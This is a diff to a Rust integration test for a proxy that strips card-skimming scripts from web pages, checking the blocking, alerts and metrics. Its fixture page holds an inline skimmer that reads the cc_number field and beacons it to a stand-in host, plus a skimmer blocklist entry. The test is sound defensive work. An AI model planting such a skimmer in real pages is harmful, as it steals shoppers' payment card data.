@@ -16,6 +16,19 @@ const PAGE: &str = r#"<!doctype html><html><head><title>Checkout</title>
 <script>document.getElementById("pay").addEventListener("submit", function () { /* site code */ });</script>
 </body></html>"#;
 
+/// Written for this test: a page with a blocklisted script and an inline skimmer (the BA
+/// pattern, on a reserved domain) next to the site's own code.
+const EVIL_TAG: &str = r#"<script src="https://cdn.evil-list.example/skim.js"></script>"#;
+const SKIM_TAG: &str = "<script>document.addEventListener('submit', function () { var c = document.querySelector('input[name=cc_number]').value; navigator.sendBeacon('https://inline-collect.example.net/c', c); });</script>";
+const BLOCK_PAGE: &str = concat!(
+    "<!doctype html><html><head>",
+    r#"<script src="https://cdn.evil-list.example/skim.js"></script>"#,
+    r#"<script src="/static/app.js"></script><script>window.siteCode = 1;</script>"#,
+    "</head><body><form><input name=cc_number></form>",
+    "<script>document.addEventListener('submit', function () { var c = document.querySelector('input[name=cc_number]').value; navigator.sendBeacon('https://inline-collect.example.net/c', c); });</script>",
+    "</body></html>"
+);
+
 fn big_body() -> Vec<u8> {
     (0..200_000u32).flat_map(|i| i.to_le_bytes()).collect()
 }
@@ -33,6 +46,10 @@ async fn upstream() -> String {
                     PAGE,
                 )
             }),
+        )
+        .route(
+            "/shop",
+            axum::routing::get(|| async { ([(header::CONTENT_TYPE, "text/html")], BLOCK_PAGE) }),
         )
         .route(
             "/app.js",
@@ -250,5 +267,80 @@ async fn page_policies_are_added_per_path_in_their_mode() {
             .is_none(),
         "not HTML"
     );
+    t.server.shutdown().await.unwrap();
+}
+
+#[tokio::test]
+async fn blocking_mode_removes_exactly_the_flagged_scripts_and_records_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let list = dir.path().join("skimmers.txt");
+    std::fs::write(&list, "cdn.evil-list.example\n").unwrap();
+    let up = upstream().await;
+    let t = start(
+        "",
+        &format!(
+            "[intel]\nblocklists = [{{ path = \"{}\", category = \"magecart\" }}]\n\
+             [proxy]\nlisten = \"127.0.0.1:0\"\nupstream = \"{up}\"\nblock = true",
+            list.display()
+        ),
+    )
+    .await;
+    let proxy = format!("http://{}", t.server.proxy_addr.unwrap());
+    // The blocklisted script goes at once; the inline skimmer is scored while this page streams.
+    let first = t
+        .http
+        .get(format!("{proxy}/shop"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert_eq!(first, BLOCK_PAGE.replace(EVIL_TAG, ""));
+    let bad = t
+        .eventually("/api/v1/alerts?kind=malicious_script", |v| {
+            !v["alerts"].as_array().unwrap().is_empty()
+        })
+        .await;
+    assert_eq!(bad["alerts"][0]["details"]["scored"], "inline");
+    // From then on it is removed too: its element stays, empty; the site's own code is untouched.
+    let second = t
+        .http
+        .get(format!("{proxy}/shop"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert_eq!(
+        second,
+        BLOCK_PAGE
+            .replace(EVIL_TAG, "")
+            .replace(SKIM_TAG, "<script></script>")
+    );
+    let blocked = t
+        .eventually("/api/v1/alerts?kind=script_blocked", |v| {
+            v["alerts"].as_array().unwrap().len() >= 2
+        })
+        .await;
+    let reasons: Vec<&str> = blocked["alerts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a["details"]["reason"].as_str().unwrap())
+        .collect();
+    assert!(
+        reasons
+            .iter()
+            .any(|r| r.contains("blocklist skimmers.txt (magecart)")),
+        "{reasons:?}"
+    );
+    assert!(
+        reasons.iter().any(|r| r.contains("scored malicious")),
+        "{reasons:?}"
+    );
+    let metrics = t.metrics().await;
+    assert!(metric(&metrics, "rampart_proxy_scripts_blocked_total") >= 2.0);
     t.server.shutdown().await.unwrap();
 }
